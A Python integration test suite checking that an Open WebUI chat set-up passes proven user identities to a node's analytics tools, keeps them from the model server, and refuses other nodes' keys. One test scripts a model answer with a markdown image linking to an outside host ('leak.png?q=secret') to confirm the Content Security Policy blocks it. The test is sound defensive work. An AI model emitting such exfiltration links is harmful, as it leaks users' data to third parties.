"""People ask the real Open WebUI about their numbers: the tools are the node's, and know for whom they answer."""

import json
import re
import secrets
import time
import uuid
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from contextlib import ExitStack
from dataclasses import dataclass
from datetime import UTC, date, datetime
from typing import Any
from zoneinfo import ZoneInfo

import aiohttp
import pytest
from playwright.async_api import Browser
from sqlalchemy import select
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route
from tests import meta_sandbox
from tests.acceptance.conftest import browser, chromium
from tests.conftest import Serve
from tests.integration.collection.checks import AMPLE, CERAMICS_ASSETS, FULL_ACCESS
from tests.integration.collection.collecting import collect
from tests.integration.conftest import MakeNode, make_node
from tests.integration.mcp.conftest import Tools, tools_of
from tests.integration.node.conftest import eventually
from tests.stack.conftest import started
from tests.stack.open_webui import EMAIL, MODEL, Answer, Model, OpenWebUi, open_webui

from freehold.node.access import list_keys, revoke_key
from freehold.node.access.identity import HEADER
from freehold.node.access.tables import access_log, security_events
from freehold.node.app import create_app
from freehold.node.bootstrap.done import Done
from freehold.node.bootstrap.open_webui.client import OpenWebUiApi, OpenWebUiError, open_webui_at, signed_in
from freehold.node.bootstrap.open_webui.connections import KEY_NAME, Llm
from freehold.node.bootstrap.open_webui.set_up import Chat, set_up_open_webui
from freehold.node.mcp.registry import SERVICES
from freehold.node.store.instagram.tables import instagram_posts

__all__ = ["browser", "chromium", "make_node"]

PASSWORD = "Marketer-1234567"
QUESTION = "How did my posts do last week?"
ASKED = {"metrics": ["posts"], "period": "last_7d"}
CONNECTIONS, ASSISTANT = "Open WebUI's connections to tools", 'Open WebUI assistant "Northwind: numbers"'
UNCHANGED = dict.fromkeys(
    [CONNECTIONS, "Open WebUI's server of models", ASSISTANT, "Open WebUI's first choice of model"], "unchanged"
)


@pytest.fixture(scope="module")
def webui(tmp_path_factory: pytest.TempPathFactory) -> Iterator[OpenWebUi]:
    """Open WebUI, running, and set up by nobody yet."""
    with ExitStack() as stack:
        yield started(stack, lambda: open_webui(tmp_path_factory.mktemp("open_webui")))


def reading(messages: list[dict[str, Any]]) -> Answer:
    """A model that asks the node how many posts there were, and says what it was told."""
    told = [each for each in messages if each["role"] == "tool"]
    if not told:
        return {"tool": "insights_query_metrics", "arguments": ASKED}
    found = re.search(r'"posts":\s*(\d+)', json.dumps(told[-1]["content"]).replace("\\", ""))
    return {"content": f"You published {found[1]} posts." if found else "I was told nothing."}


@dataclass
class Room:
    """Open WebUI set up for a node that holds two weeks of posts, and the model that words its answers."""

    webui: OpenWebUi
    tools: Tools
    urls: dict[str, str]
    model: Model
    llm: str

    async def set_up(self) -> dict[str, str]:
        """Set Open WebUI up as bootstrap does; what came of each thing."""
        node = self.tools.stage.node
        chat = Chat(self.urls, Llm(f"{self.llm}/v1", "key-of-the-model"), MODEL, "Northwind")
        done: list[Done] = await set_up_open_webui(self.api, node.database, node.clock, chat)
        return {each.what: each.change for each in done}

    @property
    def api(self) -> OpenWebUiApi:
        """Open WebUI's API for its administrator."""
        return OpenWebUiApi(open_webui_at(self.tools.stage.node.http, self.webui.url), self.webui.token)


MakeRoom = Callable[..., Awaitable[Room]]


@pytest.fixture
def make_room(webui: OpenWebUi, make_node: MakeNode, serve: Serve) -> MakeRoom:
    """A maker of rooms; takes what the model says, and the node's settings."""

    async def make(script: Callable[[list[dict[str, Any]]], Answer] = reading, **chosen: Any) -> Room:
        meta = await meta_sandbox.start(serve, limits=FULL_ACCESS)
        meta.clock.advance(datetime.now(UTC) - meta.clock.now())  # Open WebUI has no other clock
        settings = {"chat_identity_secret": webui.identity_secret, **AMPLE, **chosen}
        tools = await tools_of(make_node, meta, serve, "insights", **settings)
        await tools.stage.connect(assets=CERAMICS_ASSETS)
        assert not (await collect(tools.stage.node, 14)).failures
        others = {
            name: await serve(create_app(tools.stage.node, SERVICES[name].listener))
            for name in ("instagram", "meta_ads")
        }
        model = Model(script)
        room = Room(webui, tools, {"insights": tools.url, **others}, model, await serve(model.app()))
        await room.set_up()
        return room

    return make


@dataclass
class Person:
    """Somebody who is signed in to Open WebUI, and is no administrator."""

    session: aiohttp.ClientSession
    url: str
    email: str

    async def rest(self, method: str, path: str, body: object = None) -> Any:
        """Ask Open WebUI's API; it must answer well."""
        async with self.session.request(method, f"{self.url}/{path}", json=body) as answer:
            assert answer.status == 200, f"{path}: {answer.status} {await answer.text()}"
            return await answer.json()

    async def ask(self, question: str) -> dict[str, Any]:
        """Ask the assistant as its page does; gives its message once it is done."""
        said, answered = str(uuid.uuid4()), str(uuid.uuid4())
        message = {
            "id": said,
            "parentId": None,
            "childrenIds": [answered],
            "role": "user",
            "content": question,
            "timestamp": int(time.time()),
            "models": [MODEL],
        }
        body = {
            "model": MODEL,
            "stream": True,
            "parent_id": None,
            "id": answered,
            "session_id": "page",
            "messages": [{"role": "user", "content": question}],
            "user_message": message,
            "tool_ids": [f"server:mcp:{service}" for service in SERVICES],
        }
        chat = (await self.rest("POST", "api/chat/completions", body))["chat_id"]
        found: dict[str, Any] = {}

        async def done() -> bool:
            nonlocal found
            kept = (await self.rest("GET", f"api/v1/chats/{chat}"))["chat"]["history"]["messages"]
            found = kept.get(answered, {})
            return bool(found.get("done"))

        await eventually(done)
        return found


@pytest.fixture
async def person(webui: OpenWebUi) -> AsyncIterator[Person]:
    """A marketer, whose account the administrator has just made."""
    email = f"mia-{uuid.uuid4().hex[:8]}@example.com"
    owner = {"Authorization": f"Bearer {webui.token}"}
    new = {"name": "Mia", "email": email, "password": PASSWORD, "role": "user"}
    async with aiohttp.ClientSession(headers=owner, cookie_jar=aiohttp.DummyCookieJar()) as session:
        token = (await Person(session, webui.url, EMAIL).rest("POST", "api/v1/auths/add", new))["token"]
    headers = {"Authorization": f"Bearer {token}"}
    async with aiohttp.ClientSession(headers=headers, cookie_jar=aiohttp.DummyCookieJar()) as session:
        yield Person(session, webui.url, email)


async def posts_in_the_database(tools: Tools, evidence: dict[str, Any]) -> int:
    """How many posts the tables have of the days, in the time zone, that an answer rests on."""
    table, zone = instagram_posts.c, ZoneInfo(evidence["time_zone"])
    first, last = (date.fromisoformat(evidence["days"][name]) for name in ("since", "until"))
    async with tools.stage.node.database.reading() as session:
        rows = (await session.execute(select(table.published_at).where(table.product_type != "STORY"))).all()
    return sum(first <= row.published_at.astimezone(zone).date() <= last for row in rows)


async def test_a_person_asks_and_the_figure_is_the_databases(make_room: MakeRoom, person: Person) -> None:
    """A plain user's question reaches the node's tool with a proved identity; the answer has the database's number."""
    room = await make_room()
    models = [each["id"] for each in (await person.rest("GET", "api/models"))["data"]]
    assert models == [MODEL], "people see the assistant, and nothing else"
    message = await person.ask(QUESTION)
    told = await room.tools.ask("query_metrics", **ASKED)
    number = await posts_in_the_database(room.tools, told["evidence"])
    assert message["content"].endswith(f"You published {number} posts."), message
    assert number > 0

    async def written() -> bool:
        rows = await room.tools.stage.rows(access_log)
        return [row["person"] for row in rows if row["tool"] == "query_metrics"][:1] == [person.email]

    await eventually(written)
    system = room.model.asked[0]["messages"][0]
    assert "the social media numbers of Northwind" in system["content"]
    assert {each["function"]["name"] for each in room.model.asked[0]["tools"]} >= {"insights_query_metrics"}


async def test_the_server_of_models_is_not_told_who_asks(make_room: MakeRoom, person: Person) -> None:
    """It gets its key, the question and the tools' answers; neither proof nor address of the person."""
    room = await make_room()
    await person.ask(QUESTION)
    for headers in room.model.headers:
        assert headers["authorization"] == "Bearer key-of-the-model"
        assert not headers.get(HEADER)
        assert person.email not in json.dumps(dict(headers))
    assert person.email not in json.dumps(room.model.asked)


async def test_a_server_of_models_that_is_told_who_asks_is_warned_of(make_room: MakeRoom) -> None:
    """One that an administrator added stays, whatever it is told; with the headers of ours it is not named any more.

    The warning has its host alone, since an address may hold a password.
    """
    room = await make_room()
    ours = await room.api.get(MODELS)
    added = {
        "ENABLE_OPENAI_API": True,
        "OPENAI_API_BASE_URLS": [*ours["OPENAI_API_BASE_URLS"], "http://mia:secret@127.0.0.1:9/v1"],
        "OPENAI_API_KEYS": [*ours["OPENAI_API_KEYS"], "their-key"],
    }
    try:
        for headers, warned in (({}, 1), ({**ours["OPENAI_API_CONFIGS"]["0"]["headers"], "X-Team": "7"}, 0)):
            added["OPENAI_API_CONFIGS"] = {**ours["OPENAI_API_CONFIGS"], "1": {"enable": True, "headers": headers}}
            await room.api.post(f"{MODELS}/update", added)
            done = await room.set_up()
            assert await room.api.get(MODELS) == added
            warnings = [what for what, change in done.items() if change == "warning"]
            assert len(warnings) == warned, headers
            assert all("at 127.0.0.1 who asks" in each and "secret" not in each for each in warnings)
            assert done == {**UNCHANGED, **dict.fromkeys(warnings, "warning")}
    finally:
        await room.api.post(f"{MODELS}/update", ours)


MODELS = "openai/config"


async def test_another_nodes_people_get_nothing(make_room: MakeRoom, person: Person) -> None:
    """With the address of this node, and even with its key, a chat that shares another node's secret learns nothing."""
    room = await make_room(chat_identity_secret=secrets.token_urlsafe(32))
    message = await person.ask(QUESTION)
    assert "You published" not in message["content"]
    stage = room.tools.stage
    assert "identity_refused" in {row["kind"] for row in await stage.rows(security_events)}
    assert [row for row in await stage.rows(access_log) if row["tool"]] == []


async def test_another_nodes_key_is_no_key(make_room: MakeRoom, person: Person) -> None:
    """A chat whose key was revoked, as it would be with any key that is not of this node, is told nothing.

    The next set-up gives it another: whom an administrator lets use a connection stays so, and one that was removed is
    there again.
    """
    room = await make_room()
    *narrowed, _ = there = await connections(room)
    narrowed[-1]["config"] |= {"enable": False, "access_grants": []}
    await room.api.post(TOOL_SERVERS, {"TOOL_SERVER_CONNECTIONS": narrowed})
    async with room.tools.stage.node.database.writing() as session:
        (key,) = [each for each in await list_keys(session) if each.name == KEY_NAME]
        await revoke_key(session, key.id, room.tools.stage.clock.now())
    assert "You published" not in (await person.ask(QUESTION))["content"]
    assert await room.set_up() == {**UNCHANGED, CONNECTIONS: "updated"}
    found = await connections(room)
    (good,) = {each["key"] for each in found}
    assert found == [{**each, "key": good} for each in there]
    assert good != there[0]["key"]
    assert "You published" in (await person.ask(QUESTION))["content"]


TOOL_SERVERS = "api/v1/configs/tool_servers"


async def connections(room: Room) -> list[dict[str, Any]]:
    """The connections to tools, as Open WebUI has them."""
    found: list[dict[str, Any]] = (await room.api.get(TOOL_SERVERS))["TOOL_SERVER_CONNECTIONS"]
    return found


async def test_a_second_set_up_changes_nothing(make_room: MakeRoom) -> None:
    """What people changed is kept, their own connections too, and how they narrowed ours."""
    room = await make_room()
    assert await room.set_up() == UNCHANGED
    api = room.api
    record = await api.get("api/v1/models/model", id=MODEL)
    await api.post("api/v1/models/model/update", {**record, "params": {"system": "Answer in verse."}})
    own: dict[str, Any] = {
        "type": "openapi",
        "url": "http://127.0.0.1:9",
        "path": "openapi.json",
        "auth_type": "none",
        "key": "",
    }
    own |= {"config": {"enable": False}, "info": {"id": "own", "name": "Own"}}
    there = await connections(room)
    there[0]["config"] |= {"access_grants": [], "function_name_filter_list": "!run_sql"}
    there[1]["info"]["name"] = "Not yet"
    await api.post(TOOL_SERVERS, {"TOOL_SERVER_CONNECTIONS": [*there, own]})
    try:
        assert await room.set_up() == {**UNCHANGED, ASSISTANT: "kept"}
        *found, last = await connections(room)
        assert (found, last["info"]["id"]) == (there, "own")
    finally:
        await api.post("api/v1/models/model/delete", {"id": MODEL})
        await api.post(TOOL_SERVERS, {"TOOL_SERVER_CONNECTIONS": []})


async def test_an_administrators_password_that_is_not_theirs_is_explained(
    webui: OpenWebUi, make_room: MakeRoom
) -> None:
    """The message names the account, and quotes no password."""
    http = (await make_room()).tools.stage.node.http
    assert (await signed_in(http, webui.url, EMAIL, webui.password)).token
    with pytest.raises(OpenWebUiError, match=f"another administrator than {EMAIL}") as refused:
        await signed_in(http, webui.url, EMAIL, "Wrong-password-1")
    assert "Wrong-password-1" not in str(refused.value)


async def test_the_branding_is_open_webuis(person: Person) -> None:
    """The company's name stands before its own, as its licence asks."""
    assert (await person.rest("GET", "api/config"))["name"] == "Northwind (Open WebUI)"


async def test_a_page_asks_nobody_else_for_a_picture(
    make_room: MakeRoom, person: Person, serve: Serve, browser: Browser
) -> None:
    """In Chromium: the answer is shown, and the picture that it names elsewhere is never asked for."""
    asked: list[str] = []

    async def take(request: Request) -> Response:
        asked.append(request.url.path)
        return Response(b"", media_type="image/png")

    outside = await serve(Starlette(routes=[Route("/{path:path}", take)]))
    room = await make_room(lambda _messages: {"content": f"Fine.\n\n![chart]({outside}/leak.png?q=secret)"})
    page, refused = await browser.new_page(), []
    page.on("console", lambda line: refused.append(line.text))
    await page.goto(f"{room.webui.url}/auth")
    await page.fill("#email", person.email)
    await page.fill("#password", PASSWORD)
    await page.press("#password", "Enter")
    await page.fill("#chat-input", QUESTION)
    await page.press("#chat-input", "Enter")
    await page.get_by_text("Fine.").wait_for()
    await page.locator('[data-cy="image-unavailable"]').wait_for()
    assert any("Content Security Policy" in text for text in refused)
    assert asked == []
